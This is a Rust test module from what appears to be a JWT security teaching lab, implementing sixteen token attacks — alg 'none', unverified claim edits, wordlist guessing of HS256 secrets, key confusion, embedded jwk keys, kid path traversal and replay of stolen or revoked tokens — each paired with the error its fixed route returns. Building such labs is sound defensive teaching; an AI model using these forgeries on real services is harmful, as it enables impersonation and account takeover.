//! The attacks, as a learner's program makes them.
//!
//! Each takes the name of the route that it is aimed at, so that it can be tried on all of them. What
//! is forged names that route's victim, issuer and audience. A genuine token can't be changed, so it
//! is sent unchanged.

use jsonwebtoken::jwk::Jwk;
use jsonwebtoken::{Algorithm, EncodingKey, crypto};
use proofs::forge::{base64url, now, sign_with};
use serde_json::{Value, json};

use super::Lab;

/// One attack, on its own route or on a different one.
pub type Attack = fn(&Lab, &str) -> String;

/// In the order of the lessons, each with the reason for which its fixed counterpart rejects it.
pub const ATTACKS: [(&str, &str, Attack); 16] = [
    ("read-not-verified", "signature_mismatch", read_not_verified),
    ("none", "alg_none", none),
    ("claims-first", "signature_mismatch", claims_first),
    ("guessable-secret", "signature_mismatch", guessable_secret),
    ("empty-secret", "signature_mismatch", empty_secret),
    ("key-confusion", "alg_not_es256", key_confusion),
    ("own-key", "signature_mismatch", own_key),
    ("kid-path", "kid_unknown", kid_path),
    ("no-end", "exp_missing", no_end),
    ("looks-alike", "aud_mismatch", looks_alike),
    ("relay", "aud_mismatch", relay),
    ("wrong-kind", "typ_not_jwt", wrong_kind),
    ("false-refusal", "signature_mismatch", false_refusal),
    ("signed-out", "signed_out", signed_out),
    ("deleted", "account_gone", deleted),
    ("stolen", "token_leaked", stolen),
];

/// A part of a token, decoded.
pub fn part(token: &str, index: usize) -> Value {
    let part = token.split('.').nth(index).unwrap();
    let [header, payload] = jwt_sandbox::token::decoded_parts(&if index == 0 {
        token.into()
    } else {
        format!("e30.{part}.")
    });
    let text = if index == 0 { header } else { payload };
    serde_json::from_str(&text.unwrap()).unwrap()
}

/// A text to sign.
pub fn unsigned(header: &Value, payload: &Value) -> String {
    let [header, payload] = [header, payload].map(|json| base64url(json.to_string()));
    format!("{header}.{payload}")
}

/// The claims of a valid token of the victim.
pub fn claims(lab: &Lab, target: &str) -> Value {
    json!({
        "sub": lab.victim(target), "iss": format!("{target}-login"), "aud": format!("{target}-notes"),
        "iat": now(), "exp": now() + 600,
    })
}

/// Signed with HS256 and this key.
pub fn hs256(header: &Value, payload: &Value, key: impl AsRef<[u8]>) -> String {
    let text = unsigned(header, payload);
    let key = EncodingKey::from_secret(key.as_ref());
    let signature = crypto::sign(text.as_bytes(), &key, Algorithm::HS256).unwrap();
    format!("{text}.{signature}")
}

fn hs256_header() -> Value {
    json!({"typ": "JWT", "alg": "HS256"})
}

/// Changes `sub` in a genuine token, and keeps its header and its signature.
pub fn read_not_verified(lab: &Lab, target: &str) -> String {
    let token = lab.login(target);
    let mut payload = part(&token, 1);
    payload["sub"] = json!(lab.victim(target));
    let parts: Vec<&str> = token.split('.').collect();
    format!(
        "{}.{}.{}",
        parts[0],
        base64url(payload.to_string()),
        parts[2]
    )
}

pub fn none(lab: &Lab, target: &str) -> String {
    spelled(lab, target, "none")
}

/// An unsigned token whose `alg` is written like this.
pub fn spelled(lab: &Lab, target: &str, none: &str) -> String {
    let header = json!({"typ": "JWT", "alg": none});
    unsigned(&header, &claims(lab, target)) + "."
}

/// Expired, and signed with any key.
fn claims_first(lab: &Lab, target: &str) -> String {
    let mut claims = claims(lab, target);
    claims["exp"] = json!(now() - 60);
    hs256(&hs256_header(), &claims, "any key")
}

/// Tries all words on a genuine token. If none fits, it has to use one that doesn't.
fn guessable_secret(lab: &Lab, target: &str) -> String {
    let token = lab.login(target);
    let (signed, _) = token.rsplit_once('.').unwrap();
    let words = lab.text("/guessable-secret/words");
    let fits = |word: &&str| sign_with(signed, word, Algorithm::HS256) == token;
    let found = words.lines().find(fits);
    assert_eq!(found.is_some(), target == "guessable-secret", "{target}");
    hs256(
        &hs256_header(),
        &claims(lab, target),
        found.unwrap_or("secret"),
    )
}

fn empty_secret(lab: &Lab, target: &str) -> String {
    hs256(&hs256_header(), &claims(lab, target), "")
}

fn key_confusion(lab: &Lab, target: &str) -> String {
    let address = format!("{}/key-confusion/public-key", lab.origin());
    let key = bytes(&address);
    assert_eq!((key.len(), key[0]), (65, 4));
    hs256(&hs256_header(), &claims(lab, target), key)
}

/// ureq on its own: the client of the other tests reads text.
fn bytes(address: &str) -> Vec<u8> {
    let mut answer = ureq::get(address).call().unwrap();
    answer.body_mut().read_to_vec().unwrap()
}

fn own_key(lab: &Lab, target: &str) -> String {
    let mut header = hs256_header();
    header["jwk"] = json!({"kty": "oct", "k": base64url("my own key")});
    hs256(&header, &claims(lab, target), "my own key")
}

/// The same with a key pair.
pub fn own_key_pair(lab: &Lab, target: &str) -> String {
    const PKCS8: &[u8] = b"\x30\x41\x02\x01\x00\x30\x13\x06\x07\x2a\x86\x48\xce\x3d\x02\x01\x06\x08\x2a\x86\x48\xce\x3d\x03\x01\x07\x04\x27\x30\x25\x02\x01\x01\x04\x20";
    let key = EncodingKey::from_ec_der(&[PKCS8, &[7; 32]].concat());
    let jwk = Jwk::from_encoding_key(&key, Algorithm::ES256).unwrap();
    let header = json!({"typ": "JWT", "alg": "ES256", "jwk": jwk});
    let text = unsigned(&header, &claims(lab, target));
    let signature = crypto::sign(text.as_bytes(), &key, Algorithm::ES256).unwrap();
    format!("{text}.{signature}")
}

fn kid_path(lab: &Lab, target: &str) -> String {
    let key = lab.text("/kid-path/public/notice.txt");
    let mut header = hs256_header();
    header["kid"] = json!("../public/notice.txt");
    hs256(&header, &claims(lab, target), key)
}

fn no_end(lab: &Lab, _: &str) -> String {
    lab.text("/no-end/backup").lines().next().unwrap().into()
}

fn looks_alike(lab: &Lab, _: &str) -> String {
    lab.token("/looks-alike/clients", &json!({"name": "notes"}))
}

fn relay(lab: &Lab, target: &str) -> String {
    let name = lab.victim(target);
    lab.token("/relay/guest-book/login", &json!({ "name": name }))
}

fn wrong_kind(lab: &Lab, _: &str) -> String {
    let victim = json!({"user": lab.victim("wrong-kind")});
    let asked = lab.send("POST", "/wrong-kind/forgot", &[], victim.to_string());
    assert_eq!(asked.status, 200);
    let archive = lab.text("/wrong-kind/outbox");
    archive.lines().last().unwrap().into()
}

/// Any bad token: here, one with a changed `sub`.
fn false_refusal(lab: &Lab, target: &str) -> String {
    read_not_verified(lab, target)
}

fn signed_out(lab: &Lab, _: &str) -> String {
    lab.token("/signed-out/copy", &json!(null))
}

fn deleted(lab: &Lab, _: &str) -> String {
    let token = lab.token("/deleted/copy", &json!(null));
    let gone = lab.with_token("DELETE", "/deleted/me", &token, "");
    assert_eq!(gone.status, 200, "{}", gone.text);
    token
}

/// From the log.
fn stolen(lab: &Lab, _: &str) -> String {
    assert_eq!(lab.send("POST", "/stolen/visit", &[], "").status, 200);
    let log = lab.text("/broken/stolen/log");
    let (_, rest) = log.rsplit_once("?token=").unwrap();
    rest.split(' ').next().unwrap().into()
}
